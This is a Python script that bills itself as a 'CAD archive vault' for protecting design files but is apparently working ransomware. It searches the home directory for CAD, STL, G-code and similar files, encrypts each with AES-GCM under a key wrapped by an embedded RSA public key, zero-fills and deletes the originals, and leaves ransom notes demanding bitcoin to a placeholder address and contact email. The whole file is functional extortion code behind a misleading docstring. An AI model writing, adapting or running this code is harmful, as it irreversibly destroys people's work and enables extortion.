#!/usr/bin/env python3
"""CAD archive vault: protect design files at rest.

Walks the user's home for CAD, slicer and CNC job files, seals each one with
AES-GCM under a fresh session key, removes the unsealed original and leaves a
recovery notice.  The session key is wrapped with the vault's RSA public key
so only the vault operator can recover it.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")
TARGET_EXT = {".stl", ".step", ".stp", ".3mf", ".f3d", ".f3z", ".scad", ".fcstd",
              ".gcode", ".nc", ".tap", ".dxf", ".svg", ".blend", ".sldprt"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
SEALED_SUFFIX = ".vaulted"
NOTICE = """YOUR DESIGN FILES HAVE BEEN SEALED

All STL/STEP/3MF/G-code/CAD files in your home directory were encrypted.
To recover them send 0.05 BTC to bc1q7m4kerv4ult0000x9f2qexample and email
your ID below to recover@cad-vault.example.  Do not rename the files.

ID: {ident}
"""
PUBLIC_KEY_PEM = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----
"""


def candidate_files(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                yield path


def seal(path: Path, aead: AESGCM) -> bool:
    try:
        plain = path.read_bytes()
    except OSError:
        return False
    nonce = secrets.token_bytes(12)
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(nonce + aead.encrypt(nonce, plain, path.name.encode()))
    # overwrite then remove the original so it cannot be undeleted
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(plain))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return True


def wrap_key(key: bytes) -> str:
    pub = serialization.load_pem_public_key(PUBLIC_KEY_PEM)
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                            algorithm=hashes.SHA256(), label=None))
    return wrapped.hex()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    ident = wrap_key(key)
    del key

    done = 0
    for path in candidate_files(args.root):
        if seal(path, aead):
            done += 1
            if args.limit and done >= args.limit:
                break
    for folder in {args.root, args.root / "Desktop", args.root / "Documents"}:
        if folder.is_dir():
            (folder / "RECOVER_YOUR_DESIGNS.txt").write_text(NOTICE.format(ident=ident))
    log.info("sealed %d file(s)", done)


if __name__ == "__main__":
    main()
